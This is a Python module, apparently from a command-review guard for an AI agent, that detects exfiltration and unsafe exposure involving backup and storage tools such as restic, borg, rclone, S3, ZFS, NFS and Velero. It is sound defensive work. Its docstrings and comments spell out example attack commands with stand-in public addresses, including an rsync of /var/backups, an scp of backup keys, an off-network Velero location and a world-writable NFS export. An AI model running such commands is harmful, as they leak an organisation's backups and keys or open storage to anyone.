"""Backups and storage (restic, borg/borgmatic, rclone, rsync/scp, S3/GCS/Azure Blob, MinIO `mc`, ZFS/btrfs/LVM,
NFS/SMB shares, Velero), from the shell (session 29).

Whose host is read as backups_tables says (an address outside this network, or a domain no other host of the input
shares, is an outsider's). Blocked:

- what a backup holds printed and sent by a network program to an outsider's host: `restic dump`/`cat`, `borg extract
  --stdout`, an object streamed out of a bucket (`aws s3 cp s3://… -`, `gsutil cat`, `rclone cat`, `mc cat`), a ZFS or
  btrfs send stream; a repository's key (`borg key export` to the standard output, `restic cat masterkey`) sent
  anywhere; a Velero backup downloaded to a file that is then uploaded;
- the machine's backups, or a backup repository's keys or settings, copied by rsync or scp to a bare public address
  (a deploy or a dataset copied to the user's own server is ordinary work); a bucket copied by rclone to a remote the command defines at a public address; an rclone
  remote or an `mc` alias created for an outsider's host and then filled (`rclone sync`, `mc mirror`);
- a backup's destination moved to an outsider (`velero backup-location create --config s3Url=http://203.0.113.9`);
- a signed link to a container or bucket (`az storage … generate-sas`, `aws s3 presign`, `gsutil signurl`, `mc share`)
  sent to an outsider's host;
- an S3 bucket replicated into another AWS account (`put-bucket-replication`); a bucket or container whose name says
  it holds private data opened to anyone (`mc anonymous set public`, `az storage container set-permission
  --public-access`, its public access block lifted); the same on another bucket is held for a person (a website's);
- a share opened to every address with write or root rights (`zfs set sharenfs=rw=@0.0.0.0/0,no_root_squash`,
  `exportfs -o rw,no_root_squash '*:/srv'`; the same written into /etc/exports or a Samba guest share that anyone can
  write: bash/admin.py asks share_opened);
- a key added to a restic repository with its password written on the line (a login the agent knows);
- a quick tunnel (`cloudflared tunnel --url`) publishing another machine's service to the internet.

Root's storage upkeep under a plain `sudo` (no option that keeps the environment) is not reviewed (root_upkeep, read
by bash/system.py's inspection): a pool scrubbed, a snapshot taken (`zfs snapshot`, `lvcreate -s`, a btrfs snapshot
into a root-only `.snapshots` folder; a `$(date +%F)` only inside the snapshot's own name), a btrfs scrub, borgmatic's
jobs with the system's configuration, a share of another machine of this network mounted `nosuid,nodev` on /mnt/NAME
(no link made in the input), such a mount taken down. Anything else under sudo (every disk or image mounted, installs,
reads of every file as root, `zfs send`, deletes and rollbacks) keeps the review; deletes keep bash/infra.py's
`irreversible`. The copiers (rsync, scp, ssh) and the remotes, aliases and backup locations count only a bare public
address as outside: offsite providers and the user's own servers go by names.
"""
from __future__ import annotations

import ipaddress
import re

from .. import backups_tables as bt
from .. import paths
from ..hosts import loopback, public_ip, url_host
from ..secret_owner import own_network
from .commands import Cmd, option_value, positionals
from ..per_input import in_input
from .common import NET_SENDERS, input_text, mentions


def _far(host: str | None, text: str) -> bool:
    if not host or "$" in host or "`" in host:
        return False
    return public_ip(host) or bt.outsider(host, text)


def _address(host: str | None) -> bool:
    """A public address written out: storage providers (Backblaze, Wasabi, a Hetzner storage box, rsync.net) and the
    user's own servers go by names no input can tell from a stranger's, so for copiers, remotes and backup locations
    only a bare public address counts as outside."""
    return bool(host) and "$" not in host and "`" not in host and public_ip(host)  # type: ignore[operator]


def _pos(cmd: Cmd, with_arg: frozenset = frozenset()) -> list[str | None]:
    return [w.value for w in positionals(cmd.args, with_arg, stop_at_end=True)]


# -- what a backup holds, printed --------------------------------------------------------------------------------
_RESTIC_ARG = frozenset({"-r", "--repo", "--repository-file", "--password-file", "-p", "--password-command",
                         "--cache-dir", "-o", "--option", "--tag", "--host", "-H", "--path", "--target", "-t",
                         "--archive", "--key-hint", "--limit-download", "--limit-upload", "--pack-size"})
_BORG_ARG = frozenset({"--remote-path", "--rsh", "--lock-wait", "--umask", "--exclude", "-e", "--pattern",
                       "--patterns-from", "--exclude-from", "--strip-components", "--sort-by", "--last", "--first"})
_AWS_ARG = frozenset({"--profile", "--region", "--endpoint-url", "--output", "--query", "--storage-class", "--sse",
                      "--sse-kms-key-id", "--expected-size", "--exclude", "--include", "--acl", "--content-type"})


def _printed(c: Cmd) -> str | None:
    """What `c` prints when that is what a backup or a bucket holds."""
    name = c.name
    if name == "restic":
        pos = _pos(c, _RESTIC_ARG)
        if pos[:1] == ["dump"] or pos[:1] == ["cat"] and pos[1:2] not in (["masterkey"], ["key"], ["config"]):
            return f"what the backup holds (`restic {pos[0]}`)"
    elif name == "borg":
        pos = _pos(c, _BORG_ARG)
        if pos[:1] == ["extract"] and "--stdout" in c.values() or pos[:1] == ["export-tar"] and "-" in pos[2:]:
            return f"what the archive holds (`borg {pos[0]}` to the standard output)"
    elif name == "aws":
        pos = _pos(c, _AWS_ARG)
        if pos[:2] == ["s3", "cp"] and len(pos) >= 4 and (pos[2] or "").startswith("s3://") and pos[3] == "-":
            return f"the object {pos[2]} (`aws s3 cp … -`)"
    elif name in ("gsutil", "rclone", "mc"):
        pos = _pos(c)
        if pos[:1] == ["cat"] and len(pos) > 1:
            return f"the object {pos[1]} (`{name} cat`)"
    elif name == "gcloud":
        pos = _pos(c)
        if pos[:2] == ["storage", "cat"]:
            return "the object (`gcloud storage cat`)"
    elif name in ("zfs", "btrfs"):
        pos = _pos(c, frozenset({"-i", "-I", "-p", "-c", "-f"}))
        if pos[:1] == ["send"]:
            return f"a copy of the whole file system (`{name} send`)"
    return None


def _key(c: Cmd) -> str | None:
    """What `c` prints when that is a backup repository's key."""
    if c.name == "borg":
        pos = _pos(c, _BORG_ARG)
        if pos[:2] == ["key", "export"] and (len(pos) < 4 or pos[3] in ("-", "/dev/stdout")):
            return "`borg key export` prints the repository's key"
    elif c.name == "restic":
        pos = _pos(c, _RESTIC_ARG)
        if pos[:2] == ["cat", "masterkey"]:
            return "`restic cat masterkey` prints the repository's master key"
    return None


# a signed link: whoever holds it reads (or writes) the container or object without any other login
_MINTS = {"az": lambda p: "generate-sas" in p[:4], "aws": lambda p: p[:2] == ["s3", "presign"],
          "gsutil": lambda p: p[:1] == ["signurl"], "mc": lambda p: p[:1] == ["share"],
          "gcloud": lambda p: p[:2] == ["storage", "sign-url"]}


# (a link used on the storage itself, `curl -T f "https://acct.blob.core.windows.net/c/f?$SAS"`, is an upload)
_STORAGE_HOSTS = (".core.windows.net", ".amazonaws.com", "storage.googleapis.com")


def _minted(c: Cmd, far: list[str]) -> str | None:
    """A signed link to storage whose name says it holds backups or private data (a build's or a report's link is
    shared every day: an issue comment, a partner's import)."""
    check = _MINTS.get(c.name)
    if check is None or not check(_pos(c, _AWS_ARG if c.name == "aws" else frozenset())):
        return None
    if all(h.endswith(_STORAGE_HOSTS) for h in far) or not any(bt.held_data(v) for v in c.values() if v):
        return None
    return f"the signed link `{c.name} …` makes (anyone holding it reads the storage)"


_FEED = re.compile(rb"restic|borg|\bs3\b|gsutil|rclone|\bmc\b|gcloud|zfs|btrfs|generate-sas|presign|signurl|/var/backups")


def _backups_read(c: Cmd) -> str | None:
    """`tar czf - /var/backups`, `cat /var/backups/pg/x.dump`: the machine's backup folder read into a pipeline."""
    for v in c.values():
        if v and v[:1] == "/" and _HELD.match(paths.normalize(v)) and v.startswith("/var/backups"):
            return f"the machine's backups ({v})"
    return None


# `curl -T F`, `-F f=@F`, `--data-binary @F`: the file a request uploads
_UPLOADED = re.compile(r"^(?:-T|--upload-file)$|^(?:-F|--form|-d|--data|--data-binary|--data-raw)$")


def _sent(a, cmd: Cmd) -> None:
    """A backup's content, its key or a signed link reaching a network program (see the notes)."""
    from .brokers import _feeders, destinations
    from .net import _is_sender, _sends_off

    # (ssh and the copiers reach the user's own hosts as a rule: only an outsider's counts for them)
    own = cmd.name in ("ssh", "scp", "sftp", "rsync")
    if not in_input(_FEED, a.doc.data) or not _is_sender(cmd) or not own and not _sends_off(cmd):
        return
    fed = _feeders(a, cmd)
    text = input_text(a)
    far = [h for h in destinations(cmd) if h != "?" and (_address(h) if own else _far(h, text))]
    if far and cmd.name == "curl":
        args = cmd.args
        for k, w in enumerate(args[:-1]):
            if w.value and _UPLOADED.match(w.value) and (v := (args[k + 1].value or "").split("@", 1)[-1]) and \
                    v.startswith("/var/backups/"):
                a.block("exfiltration", f"`curl` uploads {v}, the machine's backups, to {far[0]}, a host outside the "
                                        "organisation's network; keep backups in the organisation's own storage",
                        cmd.node)
                return
    for c in fed:
        what = _key(c)
        if what and (far or not own):
            a.block("exfiltration", f"{what}, and `{cmd.name}` sends it off the machine: with it and the password the "
                                    "backups can be read anywhere; keep keys on paper or in the password store",
                    cmd.node)
            return
        if not far:
            continue
        what = _printed(c) or _minted(c, far) or _backups_read(c)
        if what:
            a.block("exfiltration", f"{what} is sent by `{cmd.name}` to {far[0]}, a host outside the organisation's "
                                    "network; keep backups in the organisation's own storage", cmd.node)
            return


def _filled(a, cmd: Cmd) -> None:
    """`restic dump latest /x.sql > /tmp/d`, `borg key export REPO /tmp/k`, `aws s3 cp s3://acme-backups/x /tmp/x`: a
    file filled with a backup's content or a repository's key; its upload to another machine is found by net.py."""
    from .files import written_file
    from .net import note_file

    target, what = written_file(a, cmd.redirects), _printed(cmd) or _key(cmd)
    if cmd.name == "borg":
        pos = _pos(cmd, _BORG_ARG)
        if pos[:2] == ["key", "export"] and len(pos) > 3 and pos[3] not in ("-", "/dev/stdout"):
            target, what = pos[3], "the repository's key (`borg key export`)"
    elif cmd.name in ("aws", "gsutil"):
        pos = _pos(cmd, _AWS_ARG)
        pair = pos[2:4] if pos[:2] == ["s3", "cp"] else pos[1:3] if pos[:1] == ["cp"] else []
        src, dest = (pair + [None, None])[:2]
        if src and dest and src.startswith(("s3://", "gs://")) and "://" not in dest and dest != "-" and \
                bt.held_data(src.split("/")[2]):
            target, what = dest, f"the object {src}"
    if target and what and target not in ("-", "/dev/null", "/dev/stdout", "/dev/stderr"):
        note_file(a, target, what, cmd.node)


def _velero(a, cmd: Cmd) -> None:
    from .net import note_file

    pos = _pos(cmd, frozenset({"-o", "--output", "-n", "--namespace", "--kubeconfig", "--kubecontext", "--config",
                               "--provider", "--bucket", "--prefix", "--credential", "--backup-sync-period",
                               "--default-volumes-to-fs-backup", "--access-mode", "--cacert", "--labels",
                               "--validation-frequency"}))
    if pos[:2] == ["backup", "download"] and len(pos) > 2:
        out = option_value(cmd.args, "-o", "--output")
        target = out[0].value if out else f"{pos[2]}-data.tar.gz"
        if target:
            note_file(a, target, f"the Velero backup {pos[2]} (every object and Secret of the namespaces it holds)",
                      cmd.node)
    elif pos[:1] in (["backup-location"], ["snapshot-location"]) and pos[1:2] in (["create"], ["set"]):
        for w in option_value(cmd.args, "--config"):
            for part in (w.value or "").split(","):
                key, _, value = part.partition("=")
                if key.strip() in ("s3Url", "publicUrl", "url", "endpoint", "serviceUrl") and \
                        (host := url_host(value) if "//" in value else value.split(":")[0]) and _address(host):
                    a.block("exfiltration", f"`velero {pos[0]} {pos[1]}` stores the cluster's backups at {host}, "
                                            "storage outside the organisation's network: every backup (with every "
                                            "Secret) goes there; use the organisation's own bucket", cmd.node)
                    return


# -- the organisation's data copied to an outsider ---------------------------------------------------------------
# the machine's backups and a backup repository's keys and settings (the system's other files, a project, a dataset or
# a dump the user made are copied to the user's own servers every day)
_HELD = re.compile(r"^(?:/var/backups|/etc/borgmatic|/etc/restic|(?:~|/root)/\.config/(?:borg|restic))(?:/|$)")
_RSYNC_ARG = frozenset({"-e", "--rsh", "-f", "--filter", "--exclude", "--include", "--exclude-from", "--include-from",
                        "--files-from", "-T", "--temp-dir", "--rsync-path", "--log-file", "--password-file",
                        "--partial-dir", "--backup-dir", "--suffix", "--link-dest", "--chmod", "--chown", "--port",
                        "--timeout", "--bwlimit", "--max-size", "--out-format", "--info", "-P", "-o", "-i", "-F",
                        "-J", "-l", "-S", "-c"})
# `user@host:path`, `host::module`, `rsync://host/module`
_REMOTE = re.compile(r"^(?:rsync://(?:[\w.%+-]+@)?([\w.-]+)|(?:[\w.%+-]+@)?(\[[0-9a-fA-F:]+\]|[\w.-]+):(?!//))")


def _held(p: str) -> bool:
    n = paths.normalize(p)
    return _HELD.match(n) is not None or paths.is_secret(n) or paths.held_secret(n)


_ORG_DATA = re.compile(r"^(?:/(?:var/backups|var/lib|srv|mnt|data|backups?|home|root|etc)(?:/|$)|~/)|"
                       r"(?:^|/)[^/]*(?:dump|backup|\.sql|\.bak|\.rdb)[^/]*$", re.I)


def _org_data(p: str) -> bool:
    """What an rclone remote at a bare public address is given: the organisation's folders, dumps, credentials."""
    return _ORG_DATA.search(paths.normalize(p)) is not None or _held(p)


def _copied_out(a, cmd: Cmd) -> None:
    """`rsync -az /var/backups/ sync@198.51.100.7:/data/`, `scp /etc/borgmatic/config.yaml root@203.0.113.9:/tmp/`."""
    pos = [w for w in positionals(cmd.args, _RSYNC_ARG if cmd.name == "rsync" else frozenset(
        {"-P", "-i", "-o", "-F", "-J", "-l", "-S", "-c"})) if w.value is not None]
    if len(pos) < 2:
        return
    m = _REMOTE.match(pos[-1].value or "")
    host = m and (m.group(1) or m.group(2)).strip("[]")
    if m is None or _REMOTE.match(pos[0].value or "") or not _address(host):
        return
    src = next((w.value for w in pos[:-1] if _held(w.value or "")), None)
    if src:
        a.block("exfiltration", f"`{cmd.name}` copies {src} (the machine's backups or a backup repository's keys) "
                                f"to {host}, a bare public address; copy backups only to the organisation's "
                                "own storage", cmd.node)


_RCLONE_ARG = frozenset({"--config", "--transfers", "--checkers", "--include", "--exclude", "--filter", "--bwlimit",
                         "--log-file", "--backup-dir", "--max-age", "--min-age", "--s3-endpoint", "--webdav-url",
                         "--sftp-host", "--ftp-host"})
_RCLONE_COPIES = frozenset({"copy", "sync", "move", "copyto", "moveto", "bisync"})
_HOST_KEYS = ("host", "url", "endpoint", "server")


def _configured_far(a, tool: str, name: str, cmd: Cmd) -> str | None:
    """The bare public address this input gives the rclone remote or mc alias `name` (`rclone config create NAME sftp
    host ADDR`, `mc alias set NAME URL`, `mc config host add NAME URL`, `MC_HOST_NAME=URL`,
    `RCLONE_CONFIG_NAME_HOST=ADDR`), else None."""
    env = {f"MC_HOST_{name}", f"RCLONE_CONFIG_{name.upper()}_HOST", f"RCLONE_CONFIG_{name.upper()}_URL",
           f"RCLONE_CONFIG_{name.upper()}_ENDPOINT"}
    for doc, c in [(a.doc, cmd), *a.ctx.commands]:  # (the command's own settings: `MC_HOST_x=URL mc mirror …`)
        if doc is not a.doc:
            continue
        for var, w in c.assigns:
            v = w.value or ""
            if var in env and _address(url_host(v) if "//" in v else v.split(":")[0]):
                return url_host(v) if "//" in v else v.split(":")[0]
        if c.name != tool:
            continue
        pos = _pos(c, _RCLONE_ARG)
        if tool == "rclone" and pos[:2] == ["config", "create"] and pos[2:3] == [name]:
            for k in range(4, len(pos) - 1):
                if pos[k] in _HOST_KEYS or (pos[k] or "").endswith(("_host", "_url", "_endpoint")):
                    v = pos[k + 1] or ""
                    host = url_host(v) if "//" in v else v.split(":")[0]
                    if _address(host):
                        return host
        if tool == "mc":
            v = pos[3] if pos[:3] == ["alias", "set", name] and len(pos) > 3 else \
                pos[4] if pos[:4] == ["config", "host", "add", name] and len(pos) > 4 else None
            host = url_host(v) if v else None
            if _address(host):
                return host
    return None


def _rclone(a, cmd: Cmd) -> None:
    from .net import _inline_remote_address

    pos = [w for w in positionals(cmd.args, _RCLONE_ARG)]
    verb = pos[0].value if pos else None
    if verb not in _RCLONE_COPIES or len(pos) < 3:
        return
    src = pos[1].value if pos[1].value is not None else pos[1].text.strip("\"'")
    dest = pos[-1].value if pos[-1].value is not None else pos[-1].text.strip("\"'")
    far = None
    if dest[:1] == ":":
        far = _inline_remote_address(cmd, dest)
    elif re.match(r"^[\w.-]+:", dest):
        far = _configured_far(a, "rclone", dest.split(":", 1)[0], cmd)
    if far and (re.match(r"^:?[\w.-]+:", src) or _org_data(src)):
        a.block("exfiltration", f"`rclone {verb}` copies {src} to {far}, storage outside the organisation's network; "
                                "copy backups only to the organisation's own remotes", cmd.node)


def _mc(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--exclude", "--older-than", "--newer-than", "--storage-class", "--attr",
                               "--encrypt-key", "--limit-upload", "--limit-download", "-C", "--config-dir"}))
    if pos[:1] in (["cp"], ["mirror"], ["mv"]) and len(pos) >= 3 and pos[-1]:
        far = _configured_far(a, "mc", pos[-1].split("/", 1)[0], cmd)
        if far:
            a.block("exfiltration", f"`mc {pos[0]}` copies {pos[1]} to {far}, storage outside the organisation's "
                                    "network (the alias this input set); copy only to the organisation's own "
                                    "storage", cmd.node)
        return
    # `mc anonymous set download|public|upload TARGET` (`mc policy set` before it)
    if pos[:2] in (["anonymous", "set"], ["policy", "set"]) and len(pos) >= 4 and \
            pos[2] in ("public", "download", "upload", "readwrite", "readonly", "writeonly"):
        _opened(a, cmd, f"mc {pos[0]} set {pos[2]}", pos[3], pos[2] in ("public", "upload", "readwrite", "writeonly"))


def _opened(a, cmd: Cmd, shown: str, name: str | None, writes: bool) -> None:
    if writes or bt.private_name(name):
        why = "anyone can also write to it" if writes else "its name says it holds private data"
        a.block("exfiltration", f"`{shown}` opens {name or 'the bucket'} to anyone on the internet, and {why}; keep "
                                "it private and share objects with signed links", cmd.node)
    else:
        a.review("exfiltration", f"`{shown}` makes {name or 'the bucket'} readable by anyone on the internet; a "
                                 "person should confirm it is meant to be public (a website's assets)", cmd.node)


def _az(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--name", "-n", "--account-name", "--public-access", "--auth-mode", "--account-key",
                               "--connection-string", "--sas-token", "-o", "--output", "--query", "--subscription",
                               "-g", "--resource-group"}))
    if pos[:2] != ["storage", "container"] or pos[2:3] not in (["set-permission"], ["create"]):
        return
    access = [w.value for w in option_value(cmd.args, "--public-access")]
    if not access or access[0] not in ("blob", "container"):
        return
    container = next((w.value for w in option_value(cmd.args, "--name", "-n")), None)
    account = next((w.value for w in option_value(cmd.args, "--account-name")), None)
    name = next((n for n in (container, account) if bt.private_name(n)), container)
    _opened(a, cmd, f"az storage container {pos[2]} --public-access {access[0]}", name, False)


def _aws(a, cmd: Cmd) -> None:
    from .cloud import _literal_or_file

    pos = _pos(cmd, _AWS_ARG | {"--bucket", "--replication-configuration", "--public-access-block-configuration"})
    if pos[:2] != ["s3api", "put-bucket-replication"]:
        return
    words = option_value(cmd.args, "--replication-configuration")
    body = _literal_or_file(a, words[0]) if words else None
    found = bt.replication_finding(body) if body else None
    if found:
        a.block("exfiltration", f"`aws s3api put-bucket-replication`: {found}", cmd.node)


# -- shares, keys, tunnels ---------------------------------------------------------------------------------------
def _zfs(a, cmd: Cmd) -> None:
    pos = _pos(cmd)
    if pos[:1] != ["set"]:
        return
    for p in pos[1:]:
        key, _, value = (p or "").partition("=")
        if key in ("sharenfs", "sharesmb") and (found := bt.world_share(value)):
            a.block("permission-tamper", f"`zfs set {key}` shares the dataset with {found}; share it with the "
                                         "organisation's own addresses (`rw=@10.0.0.0/8`) and keep root squashed",
                    cmd.node)
            return


def _exportfs(a, cmd: Cmd) -> None:
    opts = ",".join(w.value or "" for w in option_value(cmd.args, "-o"))
    for p in _pos(cmd, frozenset({"-o"})):
        client = (p or "").split(":", 1)[0] if ":" in (p or "") else ""
        if client and (found := bt.world_share(client + " " + opts)):
            a.block("permission-tamper", f"`exportfs` shares {p} with {found}; export to the organisation's own "
                                         "addresses and keep root squashed", cmd.node)
            return


_SMB_GUEST = re.compile(r"(?im)^[^\S\n]*+(?:guest[^\S\n]++ok|public)[^\S\n]*+=[^\S\n]*+(?:yes|true|1)\b")
_SMB_WRITABLE = re.compile(r"(?im)^[^\S\n]*+(?:read[^\S\n]++only[^\S\n]*+=[^\S\n]*+(?:no|false|0)|"
                           r"(?:writ(?:e?able)|write[^\S\n]++ok)[^\S\n]*+=[^\S\n]*+(?:yes|true|1))\b")
_EXPORT_LINE = re.compile(r"(?m)^[^\S\n]*+(/\S*)[^\S\n]++([^\n]*)$")


def share_opened(path: str, text: str | None) -> str | None:
    """What a share's configuration written to `path` opens to everyone (bash/admin.py's _protection_off), else
    None: a Samba share guests may write to, an NFS export to every address with write or root rights."""
    if not text:
        return None
    if path.startswith("/etc/samba/") and _SMB_GUEST.search(text) and _SMB_WRITABLE.search(text):
        return "a Samba share that guests may write (`guest ok = yes` with `read only = no`) lets anyone on the " \
               "network in without a password"
    if path == "/etc/exports" or path.startswith("/etc/exports.d/"):
        for where, clients in _EXPORT_LINE.findall(text):
            found = bt.world_share(clients)
            if found:
                return f"the export of {where} gives {found}"
    return None


def _restic_key(a, cmd: Cmd) -> None:
    pos = _pos(cmd, _RESTIC_ARG | {"--new-password-file", "--new-insecure-no-password", "--user"})
    if pos[:2] not in (["key", "add"], ["key", "passwd"]):
        return
    for w in option_value(cmd.args, "--new-password-file"):
        if w.node is not None and w.node.type == "process_substitution":
            inner = [c for c in a.visit_subst(w.node)]
            if any(c.name in ("echo", "printf") and c.args and all("$" not in x.text for x in c.args)
                   for c in inner):
                a.block("persistence", f"`restic key {pos[1]}` gives the repository a password written on the line: "
                                       "a login to every backup the agent knows and that stays when the other keys "
                                       "change; let the user add keys, with a password from the password store",
                        cmd.node)
                return


def _tunnel(a, cmd: Cmd) -> None:
    pos = _pos(cmd, frozenset({"--url", "--hostname", "--config", "--loglevel", "--logfile", "--metrics", "--name",
                               "--protocol", "--edge-ip-version"}))
    if pos[:1] not in (["tunnel"], []) or any(p in ("run", "login", "create", "route", "list", "delete", "info")
                                              for p in pos[1:2]):
        return
    for w in option_value(cmd.args, "--url"):
        v = w.value or ""
        host = url_host(v if "//" in v else "http://" + v)
        # (a service of the organisation's by its DNS name; a development server, a compose service (`web:3000`) or
        # a box on the LAN by its address is what quick tunnels are for)
        if host and "$" not in host and "." in host and not host.replace(".", "").isdigit() and own_network(host) \
                and not loopback(host):
            a.block("exfiltration", f"`cloudflared --url {v}` publishes {host}, another machine's service of the "
                                    "organisation, at a public address anyone can open, past the network's own access "
                                    "controls; tunnel only a local development server", cmd.node)
            return


# -- root's storage upkeep (read by bash/system.py's inspection) -------------------------------------------------
# A snapshot is put where only root can make folders (a `.snapshots` folder of the pool, never a user's home or a
# scratch folder): btrfs writes it through a symlink, so a folder the user can write may point it into /etc.
_SNAP_PARENT = re.compile(r"^/(?:[\w.-]+/)*\.?snap(?:shot)?s?/[\w.@:+-]+$")
_USER_TREES = re.compile(r"^/(?:tmp|var/tmp|dev/shm|run|root|home/[^./][^/]*)(?:/|$)")


def _snapshot_place(p: str) -> bool:
    n = re.sub(r"/{2,}", "/", p)  # (not paths.normalize: it reads /home/NAME as the user's own home)
    return _SNAP_PARENT.match(n) is not None and ".." not in n and "/./" not in n and \
        _USER_TREES.match(n) is None and not paths.kinds(n)


def _zfs_upkeep(vals: list[str], pos: list[str]) -> bool:
    # a snapshot (`-r` its children's too, `-o` user properties on it only) loses nothing
    return pos[:1] == ["snapshot"] and all(v in ("-r", "-o") or v[:1] != "-" for v in vals) and \
        all("@" in p for p in pos[1:] if "=" not in p) and len(pos) > 1


def _zpool_upkeep(vals: list[str], pos: list[str]) -> bool:
    # a scrub reads every block and repairs from redundancy (`-s` stops it, `-p` pauses, `-w` waits)
    return pos[:1] == ["scrub"] and all(v in ("-s", "-p", "-w") for v in vals if v[:1] == "-")


_BTRFS_SCRUB = frozenset({"start", "resume", "cancel", "status"})


def _btrfs_upkeep(vals: list[str], pos: list[str]) -> bool:
    from .system import _named

    if len(pos) < 2:
        return False
    group = _named(pos[0], ("subvolume", "scrub", "filesystem", "device", "balance"))
    if group == "scrub":
        return pos[1] in _BTRFS_SCRUB and all(v in ("-B", "-d", "-q", "-r", "-R", "-f") for v in vals if v[:1] == "-")
    if group == "subvolume" and _named(pos[1], ("create", "delete", "snapshot", "show", "sync", "set-default",
                                                "get-default", "list", "find-new")) == "snapshot":
        return len(pos) == 4 and all(v == "-r" for v in vals if v[:1] == "-") and _snapshot_place(pos[3])
    return False


_LVCREATE_VALUE = frozenset({"-L", "--size", "-l", "--extents", "-n", "--name", "-p", "--permission"})


def _lvcreate_snapshot(vals: list[str], pos: list[str]) -> bool:
    """`lvcreate -L 10G -s -n data_snap /dev/vg0/data`: a snapshot of a volume (space taken, nothing lost)."""
    snap, i, origin = False, 0, []
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-s", "--snapshot"):
            snap = True
        elif v.split("=", 1)[0] in _LVCREATE_VALUE:
            i += "=" not in v
        elif v[:1] == "-":
            return False
        else:
            origin.append(v)
    return snap and len(origin) == 1


_BORGMATIC_ACTIONS = frozenset({"create", "check", "list", "info", "rlist", "rinfo", "repo-list", "repo-info"})
_BORGMATIC_FLAGS = frozenset({"--list", "--stats", "--json", "--progress", "--files", "-n", "--dry-run", "--last",
                              "--no-color"})
_BORGMATIC_VALUE = frozenset({"-v", "--verbosity", "--syslog-verbosity", "--log-file-verbosity",
                              "--monitoring-verbosity", "-c", "--config", "--repository", "--archive", "--last"})


def _borgmatic_jobs(vals: list[str], pos: list[str]) -> bool:
    """`borgmatic --stats`, `borgmatic config validate`, `borgmatic list`: the jobs the system's configuration sets
    (under /etc, root's own). Another configuration (its hooks run as root), `--override`, or a restore, extract,
    delete or prune asked for keeps the review."""
    words, i = [], 0
    while i < len(vals):
        v = vals[i]
        i += 1
        key = v.split("=", 1)[0]
        if key in _BORGMATIC_VALUE:
            value = v.split("=", 1)[1] if "=" in v else (vals[i] if i < len(vals) else "")
            i += "=" not in v
            if key in ("-c", "--config") and not (value.startswith("/etc/borgmatic") and ".." not in value):
                return False
        elif key in _BORGMATIC_FLAGS:
            continue
        elif v[:1] == "-":
            return False
        else:
            words.append(v)
    return not words or words[:2] == ["config", "validate"] and len(words) == 2 or \
        words[0] in _BORGMATIC_ACTIONS and len(words) == 1


_NET_FS = frozenset({"nfs", "nfs4", "cifs", "smb3"})
# the options a share of this network is mounted with; root's mounts honour setuid files and device nodes unless told
# not to, so `nosuid` and `nodev` must both be among them (any other option, `port=`, `x-mount.*`, keeps the review)
_MOUNT_OPTS = frozenset({"ro", "rw", "nosuid", "nodev", "noexec", "hard", "soft", "timeo", "retrans", "vers",
                         "nfsvers", "rsize", "wsize", "_netdev", "noatime", "relatime", "nofail", "sec", "uid", "gid",
                         "file_mode", "dir_mode", "iocharset", "actimeo", "seal", "nobrl", "credentials"})
# (one level under /mnt or /media, root's own folders: no user can have put a symlink there)
_MOUNT_POINT = re.compile(r"^/(?:mnt|media)/[\w-][\w.-]*/?$")


def _mount_vals(vals: list[str]) -> tuple[list[str], dict[str, str], str | None] | None:
    pos, opts, kind, i = [], {}, None, 0
    while i < len(vals):
        v = vals[i]
        i += 1
        if v in ("-o", "--options", "-t", "--types") and i < len(vals):
            if v in ("-o", "--options"):
                opts.update(o.partition("=")[::2] for o in vals[i].split(","))
            else:
                kind = vals[i]
            i += 1
        elif v in ("-r", "--read-only"):
            opts["ro"] = ""
        elif v in ("-v", "--verbose"):
            continue
        elif v[:1] == "-":
            return None
        else:
            pos.append(v)
    return pos, opts, kind


def _own_share(source: str) -> bool:
    """`nas01.acme.internal:/volume1`, `//10.0.0.5/finance`: a share served by another machine of this network (never
    this one: a server the user runs here serves whatever files the user made)."""
    from ..hosts import loopback

    host = source[2:].split("/", 1)[0] if source.startswith("//") else source.split(":", 1)[0]
    if not host or loopback(host) or public_ip(host) or not re.fullmatch(r"[\w.-]+", host):
        return False
    if host.replace(".", "").isdigit():
        try:
            return ipaddress.ip_address(host).is_private
        except ValueError:
            return False
    return own_network(host)


def storage_mount(vals: list[str], pos: list[str] | None = None) -> bool:
    """`mount -t nfs4 -o nosuid,nodev,ro nas01.acme.internal:/volume1/backups /mnt/backups`: a share of another machine
    of this network mounted without setuid files or device nodes on a new folder of /mnt or /media. A disk or image
    (a loop device the user set up carries any setuid file) and a share mounted without `nosuid,nodev` keep the
    review."""
    got = _mount_vals(vals)
    if got is None:
        return False
    where, opts, kind = got
    if len(where) != 2 or not _MOUNT_POINT.match(where[1]) or not {"nosuid", "nodev"} <= opts.keys() or \
            not opts.keys() <= _MOUNT_OPTS or not opts.get("credentials", "/etc/").startswith("/etc/"):
        return False
    source = where[0]
    return (source.startswith("//") or ":/" in source) and (kind is None or kind in _NET_FS) and _own_share(source)


def storage_umount(vals: list[str], pos: list[str] | None = None) -> bool:
    # (refused while the folder is busy: only `-l`/`-f` take a mount others use away from under them)
    return bool(vals) and all(v in ("-v", "--verbose") or v[:1] != "-" and _MOUNT_POINT.match(v) for v in vals) and \
        any(v[:1] != "-" for v in vals)


STORAGE_QUERIES = {"zfs": _zfs_upkeep, "zpool": _zpool_upkeep, "btrfs": _btrfs_upkeep, "lvcreate": _lvcreate_snapshot,
                   "borgmatic": _borgmatic_jobs, "mount": storage_mount, "umount": storage_umount}

# sudo's options that change nothing of what runs: any other (`-E`, `--preserve-env`, a user, a chroot) keeps the review
_SUDO_PLAIN = frozenset({"-n", "--non-interactive", "-H", "--set-home", "-S", "--stdin", "-k", "--reset-timestamp"})


def _plain_sudo(cmd: Cmd) -> bool:
    """No option of the wrapper keeps the caller's environment (`sudo -E`, `--preserve-env=XDG_CONFIG_HOME`: a
    configuration, and its hooks, of the user's choosing) or changes how the command runs."""
    if cmd.assigns or not cmd.words:
        return False
    for _name, head in cmd.wrappers:
        node = head.node
        while node is not None and node.type != "command":
            node = node.parent
        if node is None or not node.start_byte <= cmd.words[0].node.start_byte <= node.end_byte:
            return False
        between = node.text[head.node.end_byte - node.start_byte:cmd.words[0].node.start_byte - node.start_byte]
        if any(w not in _SUDO_PLAIN for w in between.decode("utf-8", "replace").split()):
            return False
    return True


def _symlinked_mount_point(node) -> bool:
    """Whether the input makes a link (`ln -s /etc /mnt/x`) anywhere: mount follows one at the mount point."""
    while node.parent is not None:
        node = node.parent
    return re.search(rb"\bln\b|symlink", node.text) is not None


def root_upkeep(cmd: Cmd, vals: list[str]) -> str | None:
